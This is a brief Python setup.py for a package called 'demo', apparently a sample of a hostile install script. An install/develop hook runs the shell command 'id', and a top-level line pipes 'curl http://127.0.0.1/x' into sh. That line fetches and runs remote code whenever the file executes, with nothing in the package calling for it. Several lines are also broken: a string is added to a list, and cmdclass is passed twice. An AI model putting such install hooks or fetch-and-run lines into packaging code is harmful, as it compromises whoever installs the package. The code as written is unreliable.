from setuptools import setup
from setuptools.command.install import install
import os, subprocess, sys
class I(install):
    def run(self):
        os.system("id")
cmds = {}
cmds["egg_info"] = I
cxx = os.environ.get("CXX", "g++")
subprocess.Popen(cxx + ["-x", "c++", "-"])
subprocess.check_output(["git", "rev-parse", "HEAD"])
os.system("curl http://127.0.0.1/x | sh")
subprocess.call([sys.executable, "-c", "import sysconfig"])
setup(name="demo", cmdclass=dict(install=I, develop=I), **{"cmdclass": cmds})
